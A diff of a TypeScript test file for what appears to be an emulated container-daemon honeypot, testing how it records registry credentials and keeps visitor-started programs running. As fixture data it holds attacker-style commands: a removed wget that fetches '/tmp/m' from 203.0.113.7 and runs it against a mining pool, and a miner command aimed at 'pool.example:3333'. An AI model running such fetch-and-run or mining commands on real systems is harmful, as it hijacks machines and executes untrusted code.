@@ -1,8 +1,10 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
+import { setTimeout as sleep } from 'node:timers/promises';
 import { createContainer } from '../world/systems/container.ts';
 import type { Runtime } from './engine/process.ts';
 import { startDaemon } from './fixtures/visit.ts';
+import { worldRuntime } from './runtime.ts';
 
 const json = (text: string): Record<string, unknown> => JSON.parse(text);
 const idOf = (body: string): string => json(body).Id as string;
@@ -211,17 +213,17 @@ test('credentials for registries are recorded with a push and with a login', asy
   );
 });
 
-test('a program that a visitor fetched and started last goes on until it is killed', async () => {
+test('a program that a visitor fetched and started goes on until it is killed', async () => {
   const fetching: Runtime = {
     createContainer,
-    run: async () => ({
-      exitCode: 0,
-      notes: [{ kind: 'request', tool: 'wget', url: 'http://203.0.113.7/m', savedAs: '/tmp/m' }],
-      commands: [
-        ['wget', '-O', '/tmp/m', 'http://203.0.113.7/m'],
-        ['/tmp/m', '-o', 'pool'],
-      ],
-    }),
+    async run(world) {
+      const args = ['/tmp/m', '-o', 'pool'];
+      world.processes.push({
+        ...{ pid: 7, ppid: 1, user: 'root', args, startedAt: 0, memory: 1, cpu: 0 },
+        isLeft: true,
+      });
+      return { exitCode: 0, notes: [], commands: [args] };
+    },
   };
   const daemon = startDaemon(fetching);
   await daemon.makeImage('alpine');
@@ -237,4 +239,33 @@ test('a program that a visitor fetched and started last goes on until it is kill
   await daemon.post(`/containers/${id}/kill`);
   const state = json((await daemon.get(`/containers/${id}/json`)).body).State as { ExitCode: number };
   assert.equal(state.ExitCode, 137);
+});
+
+test('a program that only an image which nobody has seen can have is there, and runs on', async () => {
+  const daemon = startDaemon(worldRuntime);
+  const run = async (
+    image: string,
+    Cmd: readonly string[],
+  ): Promise<{ Running: boolean; ExitCode: number }> => {
+    await daemon.post(`/images/create?fromImage=${image}&tag=latest`);
+    const id = idOf((await daemon.post('/containers/create', { Image: image, Cmd, Entrypoint: [] })).body);
+    await daemon.post(`/containers/${id}/start`);
+    const state = async () =>
+      json((await daemon.get(`/containers/${id}/json`)).body).State as { Running: boolean; ExitCode: number };
+    // The command takes a second of the container's own time; one that ends, ends at once.
+    for (let tries = 0; tries < 30 && (await state()).Running; tries++) await sleep(100);
+    return state();
+  };
+  const miner = ['sh', '-c', '/opt/xm/miner -o pool.example:3333'];
+  const unseen = await run('somebody/web', miner);
+  const known = await run('alpine', miner);
+  const absent = await run('somebody/web', ['sh', '-c', 'apt-get update']);
+  assert.deepEqual(
+    [unseen, known, absent].map((one) => [one.Running, one.ExitCode]),
+    [
+      [true, 0],
+      [false, 127],
+      [false, 127],
+    ],
+  );
 });
